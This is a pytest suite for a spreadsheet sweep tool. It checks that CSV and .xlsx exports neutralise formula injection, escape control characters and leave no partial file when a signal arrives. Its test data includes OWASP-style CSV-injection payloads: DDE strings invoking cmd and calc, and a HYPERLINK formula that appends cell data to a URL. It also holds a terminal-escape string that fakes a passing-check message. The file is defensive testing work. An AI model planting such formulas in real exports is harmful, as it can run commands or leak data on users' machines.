"""Sweep tables carry workbook text as data: CSV cells that a spreadsheet would run are
neutralised, .xlsx text cells are stored as text, headers are names, and nothing printed
or written holds a raw control character.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from bad_inputs import CLI_TEXT_OUTPUTS

from udfs.app.safe_text import FORMULA_TRIGGERS, csv_cell, sheet_text
from udfs.app.tables import SweepTable, write_table
from udfs.xlsx.file_errors import WorkbookError

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
ROOT = Path(__file__).resolve().parents[2]

#: Text a spreadsheet program would run as a formula, as published proofs of CSV injection
#: write it (OWASP, "CSV Injection"), and text that must stay as it is.
HOSTILE_TEXT = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN_TEXT = ["LFP", "#DIV/0!", "a, with comma", 'say "hi"']
CONTROL_TEXT = "a\x01b\x1b[2Kall checks pass"


def _table(values: list[object]) -> SweepTable:
    n = len(values)
    return SweepTable(
        ["Inputs!B4"],
        ["out"],
        {"Inputs!B4": [float(i) for i in range(n)], "out": values},
        "test table",
        n,
    )


def test_csv_cells_that_would_run_get_a_leading_apostrophe(tmp_path):
    values: list[object] = [*HOSTILE_TEXT, *PLAIN_TEXT, -1.5, 2.0]
    out = write_table(_table(values), tmp_path / "t.csv")
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert rows[0] == ["Inputs!B4", "out"]
    column = [r[1] for r in rows[1:]]
    assert column[: len(HOSTILE_TEXT)] == ["'" + t for t in HOSTILE_TEXT]
    assert column[len(HOSTILE_TEXT) : -2] == PLAIN_TEXT
    assert column[-2:] == ["-1.5", "2"]  # numbers are numbers, negative or not
    for cell in column[:-2]:
        assert not cell.startswith(FORMULA_TRIGGERS)


def test_csv_cell_rule():
    for text in HOSTILE_TEXT:
        assert csv_cell(text) == "'" + text
    for value in [*PLAIN_TEXT, -3.0, 0, None, True]:
        assert csv_cell(value) == value


def test_xlsx_text_cells_are_text_never_formulas(tmp_path):
    values: list[object] = [*HOSTILE_TEXT, *PLAIN_TEXT, -1.5]
    out = write_table(_table(values), tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(out)["Sweep"]
    cells = [ws.cell(row=r, column=2) for r in range(2, len(values) + 2)]
    for cell, value in zip(cells, values, strict=True):
        if isinstance(value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.value == sheet_text(value)  # a carriage return as _x000D_
        else:
            assert cell.data_type == "n" and cell.value == value
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # not one formula in the table


def test_xlsx_control_characters_are_escaped_as_excel_escapes_them(tmp_path):
    out = write_table(_table([CONTROL_TEXT, "_x0041_ stays"]), tmp_path / "c.xlsx")
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "a_x0001_b_x001B_[2Kall checks pass" in sheet
    assert "_x005F_x0041_ stays" in sheet  # a literal escape is protected, as Excel does
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", sheet)
    openpyxl.load_workbook(out)  # a valid file


def test_the_about_sheet_and_headers_are_text_too(tmp_path):
    table = _table([1.0])
    table.source = '=HYPERLINK("http://example.invalid","book.xlsx")'
    table.notes.append("@SUM(1) note")
    out = write_table(table, tmp_path / "a.xlsx")
    about = openpyxl.load_workbook(out)["About"]
    texts = [c for row in about.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == table.source for c in texts)
    assert all(c.data_type == "s" for c in texts)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize(
    "name",
    ["out\x1b[2K", "", "x" * 256, "line\nbreak"],
    ids=["escape", "empty", "too long", "newline"],
)
def test_headers_must_be_names(tmp_path, suffix, name):
    table = SweepTable(["Inputs!B4"], [name], {"Inputs!B4": [1.0], name: [2.0]}, "t", 1)
    with pytest.raises(WorkbookError, match="cannot head a table") as info:
        write_table(table, tmp_path / f"h{suffix}")
    assert "\x1b" not in str(info.value) and "\n" not in str(info.value)
    assert not any(tmp_path.iterdir())


# ------------------------------------------------------------------ through the command


def _text_book(path: Path) -> Path:
    from bad_input_catalogue import text_book

    return text_book(path)


def _cli(*argv: object):
    from bad_input_catalogue import run_cli

    return run_cli([str(a) for a in argv])


def test_a_sweep_of_hostile_text_writes_csv_that_runs_nothing(tmp_path):
    book = _text_book(tmp_path / "text.xlsx")
    result = _cli("sweep", book, "--vary", "S!A1=1,2", "--out", tmp_path / "s.csv")
    assert result.code == 0, result.stderr
    rows = list(csv.DictReader((tmp_path / "s.csv").open(encoding="utf-8", newline="")))
    assert rows[0]["link"] == '\'=HYPERLINK("http://example.invalid/?x="&1,"Click")'
    assert rows[1]["plus"] == "'+1+cmd|' /C calc'!A2"
    assert rows[0]["at"] == "'@SUM(1+1)"
    assert rows[0]["escape"] == "\x01FAIL\x1b[2K\rall checks pass"  # data, kept as data
    assert float(rows[1]["number"]) == 4.0


def test_a_sweep_of_control_characters_writes_xlsx_that_opens(tmp_path):
    book = _text_book(tmp_path / "text.xlsx")
    out = tmp_path / "s.xlsx"
    result = _cli("sweep", book, "--vary", "S!A1=1,2", "--out", out)
    assert result.code == 0, result.stderr
    assert "internal error" not in result.stderr
    ws = openpyxl.load_workbook(out)["Sweep"]
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2], strict=True)}
    assert row["link"].data_type == "s"
    assert row["link"].value == '=HYPERLINK("http://example.invalid/?x="&1,"Click")'
    assert row["escape"].value == "_x0001_FAIL_x001B_[2K_x000D_all checks pass"


def test_nothing_printed_by_a_sweep_holds_a_raw_control_character(tmp_path):
    book = _text_book(tmp_path / "text.xlsx")
    result = _cli("sweep", book, "--vary", "S!A1=1", "--out", tmp_path / "p.csv")
    assert result.code == 0, result.stderr
    printed = result.stdout + re.sub(r"\r(?=sweep \[)", "", result.stderr)  # progress redraws
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", printed), printed


@pytest.mark.parametrize("row", CLI_TEXT_OUTPUTS, ids=lambda r: r.why)
def test_text_output_table(tmp_path, row):
    """Each row of CLI_TEXT_OUTPUTS (docs/bad-inputs.md): the command succeeds, prints no
    raw control character, and what it writes holds the workbook's text as data."""
    from bad_input_catalogue import TEXT_OUTPUTS, text_output_run

    result, out, response = text_output_run(row, tmp_path)
    assert result.code == 0, result.stderr
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    printed = result.stdout + re.sub(r"\r(?=sweep)", "", result.stderr)  # progress redraws
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", printed), printed
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", response), response
    texts = {n: v for n, (_, v) in TEXT_OUTPUTS.items() if isinstance(v, str)}
    if out.suffix == ".csv":
        with out.open(encoding="utf-8", newline="") as fh:
            first = next(iter(csv.DictReader(fh)))
        for name, value in texts.items():
            assert first[name] == csv_cell(value)
    elif row.command == "sweep":
        ws = openpyxl.load_workbook(out)["Sweep"]
        cells = dict(zip([c.value for c in ws[1]], ws[2], strict=True))
        for name, value in texts.items():
            assert cells[name].data_type == "s" and cells[name].value == sheet_text(value)
    else:
        shown = r"escape += \\x01FAIL\\x1b\[2K(\\r|\\x0d)all checks pass$"
        assert re.search(shown, result.stdout, re.M), result.stdout  # one line, escaped
        ws = openpyxl.load_workbook(out, data_only=True)["S"]
        assert ws["B1"].value == texts["link"]  # the cached result: text


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_the_sweep_text_as_text(tmp_path):
    out = write_table(_table([*HOSTILE_TEXT[:4], 2.0]), tmp_path / "t.xlsx")
    folder = tmp_path / "lo"
    cmd = [
        str(SOFFICE),
        f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76",
        "--outdir",
        str(folder),
        str(out),
    ]
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=240, check=False)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader((folder / "t.csv").open(encoding="utf-8", newline="")))
    assert [r[1] for r in rows[1:5]] == HOSTILE_TEXT[:4]  # shown as written, never computed
    assert rows[5][1] == "2"


# ------------------------------------------------------------------ a signal during the write

_CLI_CHILD = r"""
import os, sys, time
real_fsync = os.fsync


def fsync(fd):  # the table is in its temporary file: say so, then take a while to sync
    print("writing", flush=True)
    time.sleep(30)
    real_fsync(fd)


os.fsync = fsync
from udfs.cli import main

sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize("sig", ["SIGTERM", "SIGHUP", "SIGINT"])
def test_a_signal_while_a_sweep_writes_leaves_no_file_and_says_so(tmp_path, sig):
    signum = getattr(signal, sig)
    out = tmp_path / "big.csv"
    child = subprocess.Popen(
        [
            sys.executable,
            "-c",
            _CLI_CHILD,
            "sweep",
            "--model",
            "core",
            "--vary",
            "target_capacity_Ah=40:80:0.01",
            "--vary",
            "np_ratio=1.05,1.1,1.15",
            "--out",
            str(out),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )
    assert child.stdout is not None
    assert child.stdout.readline().strip() == "writing"
    temporary = [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    assert len(temporary) == 1 and temporary[0].stat().st_size > 1_000_000  # a large table
    child.send_signal(signum)
    _, stderr = child.communicate(timeout=60)
    assert child.returncode == 128 + signum, stderr
    last = stderr.strip().splitlines()[-1]
    assert last == f"cellwright sweep: stopped by {sig}; big.csv was not written", stderr
    assert "Traceback" not in stderr
    assert list(tmp_path.iterdir()) == []


def test_csv_output_keeps_numbers_readable():
    table = _table([1.25, float("inf")])
    from udfs.app.tables import _csv_text

    rows = list(csv.reader(io.StringIO(_csv_text(table))))
    assert rows[1][1] == "1.25" and rows[2][1] == "#NUM!"
